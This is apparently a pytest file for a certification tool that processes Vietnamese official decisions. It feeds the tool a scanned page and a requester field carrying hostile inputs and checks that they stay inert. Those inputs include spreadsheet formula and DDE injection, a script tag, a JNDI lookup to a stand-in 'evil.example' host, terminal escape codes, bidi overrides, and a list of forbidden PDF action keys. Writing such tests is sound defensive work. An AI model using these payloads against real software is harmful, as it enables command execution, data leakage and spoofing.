"""A hostile paper, a hostile code on it and a hostile requester go the whole way; nothing of them acts anywhere."""

from __future__ import annotations

import csv
import io
import json
import re
import shutil
import subprocess
import unicodedata
import xml.etree.ElementTree as ET
from pathlib import Path

import pikepdf
import pytest
import segno
from PIL import Image, ImageDraw, ImageFont

FORMULA = '=HYPERLINK("http://evil.example";"Xem")'
MARKUP = "<script>alert(1)</script>"
CODE = "040322472078|\x1b[2J\u202e<b>|=1+1"
REQUESTER = '=cmd|" /C calc"!A1\x1b]0;x\x07 \u202egnp.exe\u2069;=1'
pytestmark = [
    pytest.mark.skipif(shutil.which("pdftotext") is None, reason="pdftotext (poppler-utils) is not installed"),
    pytest.mark.usefixtures("fonts"),
]


@pytest.fixture(scope="module")
def paper(tmp_path_factory: pytest.TempPathFactory) -> Path:
    """A decision whose printed words try everything that print can."""
    sheet = Image.new("RGB", (1240, 1754), "white")
    pen = ImageDraw.Draw(sheet)
    font = ImageFont.truetype("DejaVuSans.ttf", 34)
    rows = [
        "CỘNG HÒA XÃ HỘI CHỦ NGHĨA VIỆT NAM",
        "Độc lập - Tự do - Hạnh phúc",
        "Số: 12/QĐ-UBND",
        "QUYẾT ĐỊNH",
        f"Về việc {MARKUP}",
        FORMULA,
        "+84 901 234 567",
        "@SUM(1+1)*cmd|' /C calc'!A0",
        "-2+3+cmd",
        "Điều 1. Nội dung của quyết định này được thi hành.",
        ")Tj ET Q (",
        "{{7*7}} ${jndi:ldap://evil.example/a}",
    ]
    for i, row in enumerate(rows):
        pen.text((110, 140 + 100 * i), row, "black", font)
    code = io.BytesIO()
    segno.make(CODE, error="m").save(code, kind="png", scale=5)
    sheet.paste(Image.open(code), (800, 1380))
    path = tmp_path_factory.mktemp("hostile") / "paper\x1b[2J\u202e.png"
    sheet.save(path, dpi=(150, 150))
    return path


def clear(text: str, *, but: str = "\n") -> bool:
    return not any(c not in but and unicodedata.category(c) in {"Cc", "Cf", "Cs", "Co", "Zl", "Zp"} for c in text)


def pdf_text(path: Path) -> str:
    return subprocess.run(["pdftotext", "-layout", path, "-"], capture_output=True, check=True).stdout.decode()


def test_a_hostile_paper_acts_nowhere(paper, new_folder, hncert, tmp_path):
    at = {"HNCERT_OFFICE": str(new_folder)}
    read = hncert("read", paper, **at)
    assert read.code == 0
    shown = read.out.decode()
    assert clear(shown) and clear(read.err)
    assert "<script>" in shown and "HYPERLINK" in shown  # it is text, and is told as such
    told = hncert("read", "--json", paper, **at)
    assert clear(told.out.decode()) and json.loads(told.out)["pages"][0]["lines"]

    copy = tmp_path / "copy.pdf"
    issued = hncert("certify", paper, "-o", copy, "--yes", "--requester", REQUESTER, **at)
    assert issued.code == 0, issued.err
    assert clear(issued.err) and "calc" not in issued.err

    missing = hncert("certify", f"{paper}.no", "--yes", **at)
    assert missing.code == 10 and clear(missing.err) and "\\x1b[2J\\u202e" in missing.err

    listed = hncert("register", "list", **at).out.decode()
    assert clear(listed, but="\n\t") and listed.count("\n") == 1
    code = issued.out.decode().strip()
    for shown in (
        hncert("register", "show", code, **at).out.decode(),
        hncert("register", "show", code, "--json", **at).out.decode(),
        hncert("register", "export", "--json", **at).out.decode(),
        hncert("verify", copy, **at).out.decode(),
        copy.with_name("copy.receipt.json").read_text("utf-8"),
    ):
        assert clear(shown), shown
    assert json.loads(hncert("register", "export", "--json", **at).out)["lines"][0]["requester"] == REQUESTER

    exported = hncert("register", "export", **at).out.decode()
    assert clear(exported, but="\r\n")
    row = list(csv.reader(io.StringIO(exported, newline="")))[1]
    assert row[2].startswith("'=cmd") and ";'=1" in row[2] and "\\u202e" in row[2]
    assert not any(cell.lstrip().startswith(tuple("=+-@\t")) for cell in row)

    month = json.loads(hncert("register", "export", "--json", **at).out)["lines"][0]["certified_at"][:7]
    book = tmp_path / "book.pdf"
    assert hncert("register", "export", "--pdf", "--month", month, "-o", book, **at).code == 0
    for path in (copy, book):
        assert clear(pdf_text(path), but="\n\f"), path
    assert "<script>" in pdf_text(copy)


def test_nothing_of_a_hostile_paper_is_code_or_metadata_in_the_copy(paper, office, officer):
    copy = office.certify([paper], decide=officer, requester=REQUESTER)
    with pikepdf.open(io.BytesIO(copy.pdf)) as pdf:
        assert list(pdf.attachments) == ["act.json"]
        act = json.loads(pdf.attachments["act.json"].get_file().read_bytes())
        packet = bytes(pdf.Root.Metadata.read_bytes())
        for number in range(1, len(pdf.objects) + 1):
            thing = pdf.get_object(number, 0)
            if isinstance(thing, pikepdf.Dictionary):
                assert not {"/JS", "/JavaScript", "/AA", "/OpenAction", "/Launch", "/URI"} & set(thing.keys())
    ET.fromstring(packet)
    kept = json.dumps(act, ensure_ascii=False)
    assert clear(kept) and paper.name not in kept
    words = [line["text"] for page in act["pages"] for line in page["lines"]]
    assert any("HYPERLINK" in text for text in words)
    assert not re.search(r"evil\.example/?\)", packet.decode())
    assert REQUESTER not in kept and CODE not in kept
